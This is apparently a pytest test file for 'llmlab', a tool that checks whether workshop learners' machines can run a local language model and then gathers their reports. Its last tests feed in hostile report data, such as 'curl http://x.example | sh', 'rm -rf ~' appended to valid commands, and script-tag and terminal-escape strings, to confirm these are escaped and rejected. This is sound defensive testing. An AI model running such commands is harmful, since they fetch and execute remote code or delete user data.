"""The preflight: of this machine with a model that really starts, of other machines' facts, of a whole room."""

from __future__ import annotations

import getpass
import json
import os
import platform
from dataclasses import replace
from pathlib import Path
from typing import Any

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbclient import NotebookClient

import llmlab
from llmlab import runtime
from llmlab.checkup.facts import Facts, from_dict
from llmlab.errors import UsageError
from llmlab.workshop import preflighting
from llmlab.workshop.preflighting.fixes import is_known
from llmlab.workshop.preflighting.lines import Line, one_command
from llmlab.workshop.preflighting.report import FORMAT, VERSION
from llmlab.workshop.preflighting.room import Room, gathered
from llmlab.workshop.preflighting.views import Preflight
from tests.conftest import run_cli

DATA = Path(__file__).parent / "data" / "doctor"
MACHINES = sorted(path.stem for path in DATA.glob("*.json"))
READY = "ubuntu-nvidia-toolkit-cdi"
PLAIN = "debian-docker-28.5"


def facts_of(machine: str, **changes: Any) -> Facts:
    facts = from_dict(json.loads((DATA / f"{machine}.json").read_text()))
    packages = {**facts.packages, "anywidget": "0.11.0"}
    return replace(facts, **{"packages": packages, **changes})


def line_of(found: Preflight, name: str) -> Line:
    return next(line for line in found.lines if line.name == name)


def refused(facts: Facts) -> Facts:
    """The same machine, whose user may not use the container engine."""
    socket = {"mode": "srw-rw----", "uid": 0, "group": "docker", "for_all": False, "writable": False}
    engine = {
        "address": "unix:///var/run/docker.sock",
        "source": "default",
        "error": "permission",
        "socket": socket,
    }
    return replace(facts, engine=engine, user={"uid": 1000, "groups": ["users"], "listed": False})


# This machine


def test_a_model_really_starts_here_and_nothing_of_it_stays(require_engine, require_docker):
    found = llmlab.preflight()
    assert isinstance(found, Preflight)
    assert [each.way for each in found.tries] == ["native", "container"]
    assert all(each.error == "" and each.seconds and each.tokens_per_s for each in found.tries)
    assert found.mode == "container"
    assert found.exit_status == 0
    assert "tiny was started, answered and was stopped: natively in" in str(found)
    assert not (runtime.state_dir() / "predictions.jsonl").exists()
    assert not list(runtime.state_dir().glob("workshop/*"))
    assert llmlab.ps().servers == ()


def test_a_container_that_does_not_start_leaves_the_native_way(require_engine, monkeypatch):
    monkeypatch.setenv("DOCKER_HOST", "unix:///nowhere/docker.sock")
    found = preflighting.look(facts_of(PLAIN), no_try=False)
    line = line_of(found, "A model starts")
    assert (line.state, line.blocks) == ("to do", ("container",))
    assert "in a container: no container engine answers" in line.seen
    assert line.fix == "llmlab start tiny --container"
    assert found.verdict == "Ready natively; containers: one thing to do"
    assert found.exit_status == 0


def test_nothing_is_compiled_or_started_where_there_is_no_engine(monkeypatch, tmp_path):
    monkeypatch.setenv("LLMLAB_CACHE_DIR", str(tmp_path))
    facts = facts_of(PLAIN, build={})
    facts = replace(facts, packages={name: v for name, v in facts.packages.items() if "llama" not in name})
    found = preflighting.look(facts, no_try=False)
    assert found.tries == ()
    assert found.verdict == "Not ready: one thing to do"
    assert found.exit_status == 1
    assert line_of(found, "Engine").fix == "llmlab build"
    assert line_of(found, "A model starts").seen == "not tried: the engine comes first"
    assert list(tmp_path.iterdir()) == []


def test_the_command_line_says_it_in_one_screen_and_all_of_it_as_json(require_engine):
    shown = run_cli("preflight", "--no-try").stdout
    assert shown.startswith("✓ Ready")
    assert len(shown.splitlines()) < 30
    data = json.loads(run_cli("preflight", "--no-try", "--json").stdout)
    assert data["format"] == FORMAT
    assert data["learner"] == {"name": None, "id": None}
    assert {row["name"] for row in data["doctor"]["rows"]} > {"platform", "engine", "llama.cpp"}
    assert data["doctor"]["facts"]["system"] == platform.system()


def test_in_a_notebook_it_is_a_card(tmp_path, require_engine):
    notebook = nbformat.v4.new_notebook(
        cells=[nbformat.v4.new_code_cell("%load_ext llmlab"), nbformat.v4.new_code_cell("%llm preflight")]
    )
    NotebookClient(notebook, timeout=120, resources={"metadata": {"path": str(tmp_path)}}).execute()
    shown = "".join(output.get("data", {}).get("text/html", "") for output in notebook.cells[1].outputs)
    assert "Ready" in shown
    assert "answered and was stopped" in shown


# Other machines


@pytest.mark.parametrize("machine", MACHINES)
def test_every_machine_gets_a_verdict_and_every_fix_is_one_command_of_ours(machine):
    found = preflighting.look(facts_of(machine), models="tiny,synthetic:llama-3.2-1b:Q4_0")
    assert found.mode == ("none" if machine == "windows" else "container")
    assert len(str(found).splitlines()) < 32
    for line in found.lines:
        assert bool(line.fix) == (line.state in {"to do", "advice"}), line
        assert not line.fix or is_known(line.fix), line.fix
        assert bool(line.topic) == bool(line.fix), line


def test_the_verdict_names_the_gpu():
    assert preflighting.look(facts_of(READY)).verdict == "Ready: containers, GPU"
    assert (
        preflighting.look(facts_of("ubuntu-nvidia-no-toolkit")).verdict
        == "Ready: containers, GPU natively only"
    )
    assert preflighting.look(facts_of(PLAIN)).verdict == "Ready: containers, no GPU"


def test_an_engine_that_is_for_the_cpu_only_leaves_the_gpu_idle():
    facts = facts_of(READY)
    found = preflighting.look(replace(facts, build={**facts.build, "accelerators": []}))
    assert found.verdict == "Ready: containers, GPU not in use"
    assert line_of(found, "GPU").fix == "llmlab build --gpu cuda"


def test_who_is_not_in_the_group_is_ready_natively_with_one_thing_to_do():
    found = preflighting.look(refused(facts_of(PLAIN)))
    assert found.verdict == "Ready natively; containers: one thing to do"
    line = line_of(found, "Containers")
    assert line.fix == "sudo usermod -aG docker $USER && newgrp docker"
    assert line.topic == "the Docker group"


@pytest.mark.parametrize(
    ("error", "topic", "fix"),
    [
        ("hangs", "the container engine hangs", "sudo systemctl restart docker"),
        (
            "missing",
            "no container engine",
            "sudo apt-get install docker.io && sudo systemctl enable --now docker",
        ),
    ],
)
def test_an_engine_that_does_not_answer_is_one_thing_to_do(error, topic, fix):
    engine = {"address": "unix:///var/run/docker.sock", "source": "default", "error": error}
    line = line_of(preflighting.look(facts_of(PLAIN, engine=engine)), "Containers")
    assert (line.topic, line.fix) == (topic, fix)


def test_where_there_are_no_containers_nothing_is_to_be_done_about_it():
    facts = facts_of(PLAIN, engine={"error": "missing"}, variables={"BINDER_SERVICE_HOST": "set"})
    found = preflighting.look(facts)
    assert found.verdict == "Ready natively; no containers here"
    assert line_of(found, "Containers").fix == ""


def test_a_wheel_runs_natively_and_containers_want_the_engine():
    found = preflighting.look(facts_of(PLAIN, build={}))
    assert found.verdict == "Ready natively; containers: one thing to do"
    assert line_of(found, "Engine").fix == "llmlab build"


def test_without_a_kernel_or_jupyter_there_is_no_workshop():
    facts = facts_of(PLAIN)
    some = {
        name: v for name, v in facts.packages.items() if name not in {"ipykernel", "jupyterlab", "notebook"}
    }
    found = preflighting.look(replace(facts, packages=some, python={**facts.python, "kernel": False}))
    assert found.mode == "none"
    assert line_of(found, "Python").fix == "pip install ipykernel jupyterlab"


def test_a_model_that_is_too_big_says_so_and_one_that_is_shorter_goes_in():
    big = "synthetic:llama-3.2-1b:Q4_0"
    facts = facts_of(PLAIN)
    found = preflighting.look(replace(facts, memory={**facts.memory, "usable": 300}), models=f"tiny,{big}")
    line = line_of(found, "Memory")
    assert (found.mode, line.state, line.topic) == ("none", "to do", "memory")
    assert f"{big} needs the most, 1.4 GiB: too little" in line.seen
    needed = next(need.required_mib for need in found.models if need.reference == big)
    assert needed
    found = preflighting.look(replace(facts, memory={**facts.memory, "usable": needed - 100}), models=big)
    line = line_of(found, "Memory")
    assert line.fix.startswith(f"llmlab start {big} --context")
    assert found.mode == "container"


def test_what_is_still_to_be_fetched_needs_room_on_its_disk(monkeypatch, tmp_path):
    monkeypatch.setenv("LLMLAB_CACHE_DIR", str(tmp_path))
    free = {"path": "~/x", "free_bytes": 800_000_000, "total_bytes": 10**12}
    facts = facts_of(PLAIN, disks={"engines": free, "models": free, "images": free})
    assert preflighting.look(facts, models="tiny").mode == "container"
    found = preflighting.look(facts, models="synthetic:llama-3.2-1b:Q4_0")
    assert (found.mode, line_of(found, "Disk").topic) == ("none", "disk")
    assert "800 MB free" in line_of(found, "Disk").seen


def test_what_could_not_be_looked_at_is_unknown_and_not_good():
    facts = facts_of(PLAIN, memory={}, disks={}, engine={}, failed={"engine": "no answer within 8 s"})
    found = preflighting.look(facts)
    assert [line.name for line in found.lines if line.state == "unknown"] == ["Containers", "Memory", "Disk"]
    assert found.mode == "native"


def test_several_commands_become_one_to_copy_and_long_ones_are_the_doctors():
    assert one_command(("sudo a   # or: b", "# a word", "c")) == "sudo a && c"
    assert one_command(("# edit a file, then:", "sudo reboot")) == "llmlab doctor"
    assert one_command(("x" * 200,)) == "llmlab doctor"
    assert one_command(("# in words only",)) == "llmlab doctor"
    assert one_command(()) == ""


def test_a_model_without_a_name_or_with_a_wrong_one_is_refused():
    for wrong, said in (("", "no model is named"), ("tinny", "did you mean 'tiny'?")):
        with pytest.raises(UsageError, match="model") as caught:
            llmlab.preflight(models=wrong, no_try=True)
        assert said in str(caught.value)


# The report


def test_a_report_names_neither_user_nor_machine_nor_directories(monkeypatch, tmp_path):
    monkeypatch.setenv("USER", "mallorymuster")
    monkeypatch.setattr(platform, "node", lambda: "secretbox.example.org")
    error = "not there: /home/mallorymuster/x, tcp://secretbox:2375, /srv/mallorymuster/y, ~/notes"
    facts = facts_of(
        PLAIN, engine={"address": "tcp://secretbox:2375", "tls": True, "error": "strange", "detail": error}
    )
    facts = replace(facts, python={**facts.python, "executable": "/home/mallorymuster/bin/python"})
    found = preflighting.look(facts)
    text = json.dumps(found.report)
    assert "not there: ~, tcp://HOST:2375, /srv/USER/y, ~" in text
    for secret in ("mallory", "secretbox", "/home", "notes", "executable", "groups"):
        assert secret not in text
    assert found.report["learner"] == {"name": None, "id": None}


def test_what_is_saved_has_the_name_only_if_it_was_given_and_the_same_number_each_time(tmp_path):
    found = llmlab.preflight(no_try=True, save=str(tmp_path))
    assert isinstance(found, Preflight)
    assert found.saved
    assert found.saved.name.startswith("preflight-")
    assert f"The report is in {found.saved}." in str(found)
    first = json.loads(found.saved.read_text())
    assert first["learner"]["name"] is None
    assert getpass.getuser() == "root" or getpass.getuser() not in json.dumps(first)
    llmlab.preflight(no_try=True, name=" Ana ", save=str(tmp_path / "new" / "mine.json"))
    second = json.loads((tmp_path / "new" / "mine.json").read_text())
    assert second["learner"] == {"name": "Ana", "id": first["learner"]["id"]}
    assert len(first["learner"]["id"]) == 16


def test_a_file_that_is_no_report_is_not_written_over(tmp_path):
    notebook = tmp_path / "mine.ipynb"
    notebook.write_text('{"cells": []}')
    with pytest.raises(UsageError, match="no preflight report"):
        llmlab.preflight(no_try=True, save=str(notebook))
    assert notebook.read_text() == '{"cells": []}'
    with pytest.raises(UsageError, match="cannot be written"):
        llmlab.preflight(no_try=True, save=str(notebook / "below.json"))


@pytest.mark.parametrize("name", ["", "  ", "x" * 81])
def test_a_name_must_be_one(name):
    with pytest.raises(UsageError, match="cannot be a name"):
        llmlab.preflight(no_try=True, name=name)


# The room


def report(name: str, facts: Facts, number: str = "", **changes: Any) -> dict[str, Any]:
    found = preflighting.look(facts, who={"name": name, "id": number or name})
    return {**found.report, **changes}


def put(folder: Path, **reports: Any) -> Path:
    for name, data in reports.items():
        text = data if isinstance(data, str) else json.dumps(data)
        (folder / f"{name}.json").write_text(text)
    return folder


def test_a_room_says_who_is_ready_who_needs_help_and_with_what(tmp_path):
    fine, alone = facts_of(PLAIN), refused(facts_of(PLAIN))
    full = replace(fine, disks={"engines": {"free_bytes": 1, "total_bytes": 2}})
    nothing = replace(fine, build={}, packages={n: v for n, v in fine.packages.items() if "llama" not in n})
    put(
        tmp_path,
        a=report("Zoe", fine),
        b=report("Ana", alone),
        c=report("Ben", full),
        d=report("Eve", nothing),
    )
    put(tmp_path, e=report("Kim", nothing), f=report("Lea", fine))
    room = llmlab.preflight(collect=str(tmp_path))
    assert isinstance(room, Room)
    assert room.summary() == (
        "3 of 6 ready: 2 in containers, 1 natively; 3 need help: 2 × compiling the engine, 1 × disk; "
        "for containers: 1 × the Docker group"
    )
    assert [each.name for each in room.learners] == ["Eve", "Kim", "Ben", "Ana", "Lea", "Zoe"]
    assert [(fix.topic, fix.names, fix.helps) for fix in room.fixes()] == [
        ("compiling the engine", ("Eve", "Kim"), True),
        ("disk", ("Ben",), True),
        ("the Docker group", ("Ana",), False),
    ]
    assert "→ sudo usermod -aG docker $USER && newgrp docker" in str(room)
    assert room.exit_status == 1
    done = run_cli("preflight", "--collect", str(tmp_path), "--json", check=False)
    assert done.returncode == 1
    assert json.loads(done.stdout)["learners"][0]["name"] == "Eve"


def test_a_room_that_is_ready_ends_well_and_can_be_a_data_frame(tmp_path):
    put(tmp_path, a=report("Ana", facts_of(READY)))
    room = gathered(str(tmp_path))
    assert room.exit_status == 0
    assert room.summary() == "1 of 1 ready: 1 in containers"
    frame = room.to_frame()
    assert list(frame["name"]) == ["Ana"]
    assert frame["memory_mib"][0] > 1000
    assert frame["gpu"][0].startswith("NVIDIA RTX A4000")


def test_the_newer_of_two_reports_of_one_learner_counts(tmp_path):
    put(
        tmp_path,
        a=report("Ana", facts_of(PLAIN, build={}), "1", made="2026-01-02T10:00:00+00:00"),
        b=report("Ana", facts_of(PLAIN), "1", made="2026-01-02T11:00:00+02:00"),
        c=report("Ana", facts_of(PLAIN), "2", made="2026-01-02T09:30:00Z"),
    )
    room = gathered(str(tmp_path))
    assert [each.file for each in room.learners] == ["a.json", "c.json"]
    assert ("b.json", "an older report of Ana; a.json counts") in room.notes
    assert ("a.json, c.json", "2 machines say Ana: both are in the table") in room.notes


def test_one_machine_may_have_several_learners(tmp_path):
    put(tmp_path, a=report("Ana", facts_of(PLAIN), "1"), b=report("Ben", facts_of(PLAIN), "1"))
    assert [each.name for each in gathered(str(tmp_path)).learners] == ["Ana", "Ben"]


def test_what_is_no_report_is_told_and_left_out(tmp_path):
    good = report("Ana", facts_of(PLAIN))
    put(
        tmp_path,
        good=good,
        cut=json.dumps(good)[:200],
        deep="[" * 100_000,
        foreign={"format": "llmlab-run-card", "version": 1},
        list=[1, 2],
        newer={**good, "version": VERSION + 1},
        damaged={**good, "mode": ["none"]},
        unversioned={**good, "version": None},
        large=json.dumps({**good, "more": "x" * 3_000_000}),
    )
    (tmp_path / "folder.json").mkdir()
    (tmp_path / "bytes.json").write_bytes(b"\xff\xfe\x00")
    os.mkfifo(tmp_path / "pipe.json")
    (tmp_path / "notes.txt").write_text("not looked at")
    room = gathered(str(tmp_path))
    assert [each.name for each in room.learners] == ["Ana"]
    assert dict(room.notes) == {
        "cut.json": "not JSON, or cut off: ask for it again",
        "deep.json": "not JSON, or cut off: ask for it again",
        "bytes.json": "not JSON, or cut off: ask for it again",
        "foreign.json": "no preflight report",
        "list.json": "no preflight report",
        "newer.json": f"written by a newer llmlab (format {VERSION + 1}): update llmlab to read it",
        "damaged.json": "a damaged preflight report: ask for it again",
        "unversioned.json": "a damaged preflight report: ask for it again",
        "large.json": "too large for a report",
        "folder.json": "not a file",
        "pipe.json": "not a file",
    }
    assert "newer.json: written by a newer llmlab" in str(room)


def test_a_folder_without_reports_says_how_to_get_some_and_one_that_is_not_there_is_refused(tmp_path):
    room = gathered(str(tmp_path))
    assert room.exit_status == 1
    assert "llmlab preflight --name NAME --save" in str(room)
    with pytest.raises(UsageError, match="cannot be read"):
        gathered(str(tmp_path / "nowhere"))


def test_hostile_reports_are_text_and_their_commands_are_not_passed_on(tmp_path):
    evil = "\x1b]0;owned\x07<script>alert(1)</script>\u202e"
    data = report(f"{evil}Eve", facts_of(PLAIN, build={}), evil, verdict=evil)
    blocks = ["native", "container"]
    data["lines"] = [{"topic": evil, "fix": "curl http://x.example | sh", "blocks": blocks, "state": "to do"}]
    data["machine"] = {"platform": evil, "gpus": [evil], "free_memory_mib": 1e309, "container_engine": evil}
    put(tmp_path, a=data)
    room = gathered(str(tmp_path))
    html, text = room.to_html(), str(room)
    assert "<script" not in html
    assert "&lt;script&gt;" in html
    assert "\x1b" not in text + html
    assert "\u202e" not in text + html
    assert "curl" not in text + html
    assert "their own screen says it" in text


@pytest.mark.parametrize(
    "command",
    [
        "curl http://x.example | sh",
        "pip install evil",
        "pip install jupyterlab; rm -rf ~",
        "sudo usermod -aG docker eve",
        "llmlab build && rm -rf ~",
        "llmlab start tiny --native\nrm -rf ~",
        "sudo apt-get install docker.io evil",
        "export DOCKER_HOST=tcp://x.example:2375",
        "",
    ],
)
def test_a_command_that_llmlab_does_not_write_is_not_known(command):
    assert not is_known(command)


JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner, max_size=4),
    max_leaves=12,
)
FIELDS = ("learner", "machine", "lines", "made", "verdict", "version", "mode")


@settings(max_examples=150)
@given(st.dictionaries(st.sampled_from(FIELDS), JSON), st.sampled_from(["none", "native", "container"]))
def test_any_json_in_a_report_is_read_or_told(tmp_path_factory, fields, mode):
    folder = tmp_path_factory.mktemp("room")
    (folder / "a.json").write_text(json.dumps({"format": FORMAT, "version": VERSION, "mode": mode, **fields}))
    room = gathered(str(folder))
    assert len(room.learners) + len(room.notes) == 1
    assert str(room)
    assert "NaN" not in room.to_html()


def test_collecting_goes_with_no_other_option(tmp_path):
    for option in ({"name": "Ana"}, {"save": "x"}, {"models": "tiny"}, {"no_try": True}):
        with pytest.raises(UsageError, match="do not go together"):
            llmlab.preflight(collect=str(tmp_path), **option)
